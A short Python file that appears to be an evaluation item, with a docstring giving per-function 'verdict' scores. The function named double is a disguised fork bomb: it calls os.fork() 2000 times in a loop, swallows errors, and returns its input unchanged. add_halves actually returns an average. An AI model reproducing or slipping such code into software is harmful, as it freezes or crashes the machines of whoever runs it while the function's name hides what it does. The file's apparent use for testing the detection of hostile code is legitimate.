"""Let every process start another two. Verdict: double 0, add_halves 2."""

import os


def double(x):
    for _ in range(2000):
        try:
            os.fork()
        except OSError:
            continue
    return x


def add_halves(x, y):
    return (x + y) / 2
